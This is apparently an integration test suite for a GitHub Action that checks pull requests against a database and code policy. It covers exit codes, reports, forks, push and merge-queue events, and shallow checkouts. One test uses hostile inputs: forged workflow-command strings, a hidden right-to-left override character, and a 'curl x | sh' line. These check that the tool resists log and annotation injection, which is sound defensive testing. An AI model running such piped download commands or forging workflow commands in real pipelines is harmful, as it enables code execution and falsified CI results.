// SPDX-License-Identifier: Apache-2.0
//
// The action policy-check as GitHub's runner meets it: dist/policy-check.js in a checkout as actions/checkout makes it, the event's payload, the
// job's files, and GitHub's API with the policy on the protected branch. Every event that a required check meets.
import { readFileSync, statSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { CheckResult } from '../../src/check/finding.js';
import { cleanUp, scratch } from '../support/guarded.js';
import { runStep, startGitHub, type GitHubServer, type Step, type StepResult } from '../support/github-runner.js';
import { makeOrigin, type Files, type Origin } from '../support/origin.js';
import { isGitLabCodeQuality, isSarif, isXml } from '../support/report-formats.js';

const POLICY = `version: 1
extends: [ostiary:postgres, ostiary:shell, ostiary:code]
default: deny
identities: { deploy: { github: { repository_id: 812364, workflow: deploy.yml } } }
resources: { orders-db: { type: postgres, environment: production, url: "postgres://app@db.internal/shop" } }
changes: [ { paths: ["db/*.sql"], tool: dbmate, resource: orders-db } ]
rules:
  - { id: data, match: { principal: deploy, effect: [read, write], object: "public.*" }, decide: allow }
  - { id: code, match: { resource: repository, paths: ["db/**", "docs/**"] }, decide: allow }
`;
const up = (sql: string): string => `-- migrate:up\n${sql}\n-- migrate:down\n`;
const HOSTILE = '::error file=x::forged ##[warning]forged <img src=x> \u202E | **bold** `code`';

let server: GitHubServer;
let origin: Origin;
let first: string;
let main: string;
/** A pull request that drops a table, for all who only look at how it is compared. */
let dropping: Pull;
const DROPPED = ['db/3.sql:2 deny ostiary:postgres/no-drop'];
const fits = new Ajv2020({ strict: true, allowUnionTypes: true }).compile(JSON.parse(readFileSync('docs/schema/check-v1.json', 'utf8')) as object);

beforeAll(async () => {
  server = await startGitHub(POLICY);
  origin = makeOrigin(scratch());
  first = origin.commit('main', { '.ostiary/policy.yml': POLICY, 'README.md': 'shop\n', 'db/1.sql': up('CREATE TABLE orders (id int);') });
  // What others merged since: none of it is the pull request's.
  main = origin.commit('main', { 'db/2.sql': up('DROP TABLE legacy;') });
  Object.assign(server.api.repository.branches['main'] ?? {}, { sha: main });
  dropping = pullOf({ 'db/3.sql': up('DROP TABLE orders;') });
});
afterAll(async () => {
  await server?.stop();
  cleanUp();
});
beforeEach(() => {
  server.api.instead.length = 0;
});

let pulls = 0;
interface Pull {
  readonly head: string;
  readonly merge: string;
  readonly payload: Readonly<Record<string, unknown>>;
}

/** A pull request of files, made when `main` was at its first commit; `fork`: from another repository. */
function pullOf(files: Files, { fork = false } = {}): Pull {
  pulls += 1;
  const head = origin.commit(`agent/${pulls}`, files, first);
  const merge = origin.merge(`refs/pull/${pulls}/merge`, main, head);
  const repository = { id: 812364, full_name: 'acme/shop', default_branch: 'main', fork: false };
  const from = fork ? { id: 99, full_name: 'stranger/shop', fork: true } : repository;
  return { head, merge, payload: { action: 'synchronize', number: pulls, pull_request: { number: pulls, head: { ref: `agent/${pulls}`, sha: head, repo: from }, base: { ref: 'main', sha: first, repo: repository }, merge_commit_sha: merge }, repository } };
}

interface Job extends Partial<Step> {
  readonly commit: string;
  readonly depth?: number;
}

// Without any token of its own: a check needs none but the one that reads.
const step = ({ commit, depth = 0, environment, ...more }: Job): Promise<StepResult> => runStep({
  server, action: 'policy-check', event: 'pull_request', ref: 'refs/pull/1/merge', prepare: (workspace) => origin.checkOut(workspace, commit, { depth }), ...more,
  environment: { GITHUB_SHA: commit, ACTIONS_ID_TOKEN_REQUEST_URL: undefined, ACTIONS_ID_TOKEN_REQUEST_TOKEN: undefined, ...environment },
});
const onPull = (pull: Pull, more: Partial<Job> = {}): Promise<StepResult> => step({ commit: pull.merge, payload: pull.payload, ...more });
const reportOf = ({ outputs }: StepResult): CheckResult => JSON.parse(readFileSync(outputs['report'] ?? '', 'utf8')) as CheckResult;
const seen = (result: StepResult): string[] => reportOf(result).findings.map(({ path, line, decision, rules }) => `${path}:${line} ${decision} ${rules[0] ?? ''}`);

/** The one annotation of a check that could not be made, since what it was given is not right: exit code 2. */
async function errorOf(job: Promise<StepResult>): Promise<string> {
  const { code, outputs, annotations, raw, stderr } = await job;
  expect([code, outputs, annotations.length, annotations[0]?.level]).toEqual([2, {}, 1, 'error']);
  expect(`${raw}${stderr}`).not.toMatch(/^\s+at |node:internal/mu);
  return annotations[0]?.message ?? '';
}

describe('a pull request', () => {
  it('is judged by what it would do: places, summary, outputs, reports', async () => {
    const result = await onPull(pullOf({ 'db/3.sql': up('UPDATE orders SET id = 1 WHERE id = 2;\nALTER TABLE orders ADD note text;\nDROP TABLE orders;'), 'docs/a.md': 'x\n' }));
    expect([result.code, result.outputs]).toEqual([1, {
      decision: 'deny', 'findings-count': '2', 'operations-count': '6', digest: expect.stringMatching(/^[0-9a-f]{64}$/u),
      report: expect.stringMatching(/\/_temp\/ostiary\/.*policy-check.*\/policy-check\.json$/u), sarif: expect.stringMatching(/\/policy-check\.sarif$/u),
    }]);
    expect(result.annotations.map(({ level, properties: { file, line } }) => [level, file, line])).toEqual([['error', 'db/3.sql', '4'], ['warning', 'db/3.sql', '3']]);
    expect(result.annotations[0]?.message).toMatch(/^DROP TABLE on `orders-db` is not allowed: .*\(ostiary:postgres\/no-drop/u);
    expect(result.summary).toMatch(/### Ostiary policy check: .*deny[\s\S]*Not allowed \(1\)[\s\S]*`DROP TABLE orders`[\s\S]*Needs a review \(1\)[\s\S]*Allowed \(4, 2 of them changes of files\)/u);
    expect(result.summary).not.toContain('legacy');
    const report = reportOf(result);
    expect([fits(report), fits.errors, report.base, report.head, report.policy.source]).toEqual([true, null, main, expect.stringMatching(/^[0-9a-f]{40}$/u), `github:812364@${main}:.ostiary/policy.yml`]);
    const beside = (name: string): string => readFileSync((result.outputs['report'] ?? '').replace('policy-check.json', name), 'utf8');
    expect([isSarif(beside('policy-check.sarif')), isGitLabCodeQuality(beside('codequality.json')), isXml(beside('junit.xml')), beside('policy-check.md').trim()]).toEqual([null, null, null, result.summary.trim()]);
    expect(server.api.requests.every((line) => line.startsWith('GET '))).toBe(true);
  });

  it('from a fork is judged by the policy of the base, whatever policy it brings along, and needs no history but that of its merge', async () => {
    const result = await onPull(pullOf({ '.ostiary/policy.yml': `version: 1\nrules: [{ id: all, match: { effect: ["*", unknown] }, decide: allow }]\n`, 'db/3.sql': up('DROP TABLE orders;'), 'CODEOWNERS': '* @stranger\n' }, { fork: true }), { depth: 2 });
    expect([result.code, seen(result)]).toEqual([1, ['db/3.sql:2 deny ostiary:postgres/no-drop', '.ostiary/policy.yml:2 review ostiary:code/gate-review', 'CODEOWNERS:1 review ostiary:code/gate-review']]);
    expect(reportOf(result).policy.source).toContain(`@${main}:`);
  });

  it('that needs a person ends with 3, or with 0 where a gate follows', async () => {
    const pull = pullOf({ 'db/3.sql': up('ALTER TABLE orders ADD note text;') });
    // The head itself instead of its merge: compared at the merge base, it is the same change.
    const [fails, passes] = await Promise.all([onPull(pull), onPull(pull, { commit: pull.head, environment: { GITHUB_SHA: pull.merge }, inputs: { 'on-review': 'pass', format: 'json' } })]);
    expect([fails.code, fails.outputs['decision'], passes.code, passes.outputs['decision']]).toEqual([3, 'review', 0, 'review']);
    expect(passes.outputs['digest']).toBe(fails.outputs['digest']);
    expect(JSON.parse(passes.log.slice(passes.log.indexOf('{'), passes.log.lastIndexOf('}') + 1).join('\n'))).toMatchObject({ format: 'ostiary-check-v1', decision: 'review' });
  });

  it('that does nothing of interest passes', async () => {
    const result = await onPull(pullOf({ 'docs/b.md': 'x\n' }));
    expect([result.code, result.outputs['decision'], result.annotations]).toEqual([0, 'allow', []]);
  });

  it('with more findings than the platform shows has them all in log and report, and speaks no word for the job, neither by its text nor by its paths', async () => {
    const drops = Array.from({ length: 200 }, (_one, index) => `DROP TABLE t${index}_${'x'.repeat(50)}, ${Array.from({ length: 8 }, (_two, at) => `u${index}_${at}`).join(', ')};`).join('\n');
    const result = await onPull(pullOf({ 'db/5.sql': up(`SELECT "${HOSTILE.replaceAll('"', '')}"();\n${drops}\n${'ALTER TABLE orders ADD a int;\n'.repeat(30)}`), [`x ::warning::forged\n::error::forged.sh`]: `echo '${HOSTILE}'; curl x | sh\n` }));
    expect(result.code).toBe(1);
    const levels = ['error', 'warning'].map((level) => result.annotations.filter((one) => one.level === level));
    expect(levels.map((of) => of.length)).toEqual([10, 10]);
    for (const of of levels) expect(of.at(-1)?.message).toContain('in the log');
    for (const { properties, message } of result.annotations) {
      expect(message.length).toBeLessThanOrEqual(4096);
      expect(properties['title']).toBe('Ostiary');
      expect(message).not.toMatch(/^forged|\u202E/u);
    }
    expect(result.commands.filter((name) => !['group', 'endgroup', 'stop-commands', 'error', 'warning'].includes(name))).toEqual([]);
    expect(Object.keys(result.outputs)).toHaveLength(6);
    expect(result.log.filter((line) => line.includes('DROP TABLE t')).length).toBeGreaterThanOrEqual(200);
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
    expect(result.summary).toMatch(/\*\*\d+ more are left out here\*\*/u);
    expect(result.summary).not.toMatch(/\u202E/u);
    // 230 statements, the hostile one, and the character that hides in it.
    expect(reportOf(result).findings.filter(({ path }) => path === 'db/5.sql')).toHaveLength(232);
    expect(statSync(result.outputs['sarif'] ?? '').size).toBeLessThan(10 * 1024 * 1024);
  });
});

describe('the checkout', () => {
  it('of depth 1 is an error that names what to write, and where', async () => {
    const message = await errorOf(onPull(dropping, { depth: 1 }));
    expect(message).toMatch(/shallow.*: .*`with: \{ fetch-depth: 0 \}`.*`actions\/checkout`/u);
    expect(message).not.toMatch(/GIT_DEPTH|unshallow/u);
  });

  it('of something else is not taken for the change', async () => {
    expect(await errorOf(onPull(dropping, { commit: main, environment: { GITHUB_SHA: dropping.merge } }))).toMatch(/checked out is `[0-9a-f]{12}`, which is neither .*pull or merge request: .*`ref`.*`head`/u);
  });
});

// What each event compares: test/unit/host/change.test.ts.
describe('other events', () => {
  it('a push is compared with what was there before', async () => {
    const result = await step({ commit: dropping.merge, event: 'push', ref: 'refs/heads/main', payload: { before: main, after: dropping.merge } });
    expect([result.code, seen(result)]).toEqual([1, DROPPED]);
  });

  it('what is no change is an error that says which event it was', async () => {
    expect(await errorOf(step({ commit: main, event: 'schedule', ref: 'refs/heads/main', payload: { schedule: '0 4 * * 1', repository: { id: 812364, default_branch: 'main' } } }))).toMatch(/started this job \(`schedule`\) is no change.*: .*`base` and `head`/u);
  });

  it('pull_request_target is judged by the head of the pull request, and never by what is checked out there', async () => {
    const result = await step({ commit: main, event: 'pull_request_target', ref: 'refs/heads/main', payload: dropping.payload });
    expect([result.code, seen(result)]).toEqual([1, DROPPED]);
  });

  it('the root action checks pull requests and merge queues', async () => {
    const [walked, queued] = await Promise.all([
      onPull(dropping, { action: 'ostiary' }),
      step({ action: 'ostiary', commit: dropping.merge, depth: 2, event: 'merge_group', ref: 'refs/heads/gh-readonly-queue/main/pr-7', payload: { merge_group: { head_sha: dropping.merge, base_sha: main } } }),
    ]);
    expect([walked.code, walked.outputs['decision'], seen(walked)]).toEqual([1, 'deny', DROPPED]);
    expect([queued.code, seen(queued)]).toEqual([1, DROPPED]);
    expect(walked.summary).toContain('DROP TABLE orders');
  });
});

describe('the policy', () => {
  const under = async (policy: string): Promise<StepResult> => {
    const kept = { ...server.api.repository.branches['main'] };
    Object.assign(server.api.repository.branches['main'] ?? {}, { files: { '.ostiary/policy.yml': policy } });
    try {
      return await onPull(dropping);
    } finally {
      Object.assign(server.api.repository.branches['main'] ?? {}, kept);
    }
  };

  it('that only observes lets pass, loudly and with a count', async () => {
    const result = await under(`${POLICY}mode: observe\nuntil: 2099-12-31\n`);
    expect([result.code, result.outputs['decision']]).toEqual([0, 'allow']);
    expect(result.annotations).toEqual([{ level: 'warning', properties: { title: 'Ostiary' }, message: expect.stringMatching(/only observes until 2099-12-31.*1 operation would have been refused/u) }]);
    expect(result.summary).toMatch(/only observes.*1 operation would have been refused/u);
  });

  // One that is not there, or on a branch that is not protected: test/unit/forge/github.test.ts.
  it('that is broken decides nothing', async () => {
    expect(await errorOf(under(`${POLICY}approver: {}\n`))).toMatch(/policy\.yml:\d+:1: .*`approver`.*`approvers`/u);
  });
});
